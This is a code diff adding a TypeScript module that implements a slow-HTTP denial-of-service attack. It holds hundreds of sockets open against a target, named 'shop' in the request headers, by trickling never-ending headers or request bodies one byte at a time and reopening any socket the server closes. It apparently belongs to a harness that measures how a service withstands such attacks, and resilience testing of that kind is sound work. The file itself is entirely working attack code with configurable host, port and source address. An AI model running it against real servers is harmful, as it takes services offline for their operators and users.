@@ -1,0 +1,101 @@
+import { connect, type Socket } from 'node:net';
+import { setTimeout } from 'node:timers/promises';
+
+import type { SocketAttack } from './attacks.ts';
+import { reasonOf, Tally } from './client.ts';
+import type { AttackPlan, AttackResult } from './plan.ts';
+
+const CONNECTING_AT_ONCE = 200;
+/** A socket that the shop has closed or refused is opened again after so long. */
+const AGAIN_MS = 5_000;
+
+const BODY_HEAD =
+  'POST /contact HTTP/1.1\r\nHost: shop\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 2000\r\n\r\n';
+/** A head that never ends, whose first byte is all that an idle socket sends, and a body that never does. */
+const SLOW_HEAD = { atOnce: '', slowly: `GET / HTTP/1.1\r\nHost: shop\r\nX-Slow: ${'x'.repeat(1_900)}` };
+const SLOW_BODY = { atOnce: BODY_HEAD, slowly: 'x'.repeat(1_900) };
+
+/** Opens sockets, each again when it was closed, and holds them until the time is over. */
+export async function attackBySockets(attack: SocketAttack, plan: AttackPlan): Promise<AttackResult> {
+  const held = new Set<Socket>();
+  const answers = new Tally();
+  const refused = new Tally();
+  let receivedBytes = 0;
+  let mostHeld = 0;
+  const endsAt = performance.now() + plan.seconds * 1000;
+  const isOver = () => performance.now() >= endsAt;
+
+  function hold(socket: Socket): Promise<unknown> {
+    held.add(socket);
+    mostHeld = Math.max(mostHeld, held.size);
+    socket.once('data', (chunk: Buffer) => {
+      answers.add(/^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'))?.[1] ?? 'unreadable');
+      receivedBytes += chunk.byteLength;
+    });
+    const { promise, resolve } = Promise.withResolvers<unknown>();
+    socket.once('close', resolve);
+    return promise;
+  }
+
+  async function holdOne(slot: number): Promise<void> {
+    while (!isOver()) {
+      try {
+        const socket = await connected(plan);
+        const closed = hold(socket);
+        const isHead = attack.byteEveryMs === undefined || slot % 2 === 0;
+        const stop = speak(socket, isHead ? SLOW_HEAD : SLOW_BODY, attack.byteEveryMs);
+        await closed;
+        stop();
+        held.delete(socket);
+        if (!isOver()) refused.add('closed');
+      } catch (error) {
+        refused.add(reasonOf(error));
+      }
+      await setTimeout(AGAIN_MS);
+    }
+  }
+
+  for (let slot = 0; slot < attack.sockets; slot++) void holdOne(slot);
+  await setTimeout(plan.seconds * 1000);
+  for (const socket of held) socket.destroy();
+  return { answers: answers.counts, refused: refused.counts, receivedBytes, mostHeld };
+}
+
+let connecting = 0;
+const waiting: (() => void)[] = [];
+
+/** A connection from the attacker's address, a few being made at a time. */
+async function connected({ host, port, address }: AttackPlan): Promise<Socket> {
+  if (connecting >= CONNECTING_AT_ONCE) await new Promise<void>((resolve) => waiting.push(resolve));
+  connecting++;
+  try {
+    const { promise, resolve, reject } = Promise.withResolvers<Socket>();
+    const socket = connect({ host, port, localAddress: address }, () => resolve(socket));
+    socket.once('error', reject);
+    // Later errors end in 'close', too.
+    socket.on('error', () => {});
+    return await promise;
+  } finally {
+    connecting--;
+    waiting.shift()?.();
+  }
+}
+
+/** Sends the first byte at once and, if asked for, one more every so many ms; returns what stops it. */
+function speak(
+  socket: Socket,
+  { atOnce, slowly }: { atOnce: string; slowly: string },
+  byteEveryMs: number | undefined,
+): () => void {
+  if (byteEveryMs === undefined) {
+    socket.write(slowly.slice(0, 1));
+    return () => {};
+  }
+  socket.write(atOnce + slowly.slice(0, 1));
+  let place = 1;
+  const timer = setInterval(() => {
+    socket.write(slowly.charAt(place));
+    place++;
+  }, byteEveryMs);
+  return () => clearInterval(timer);
+}
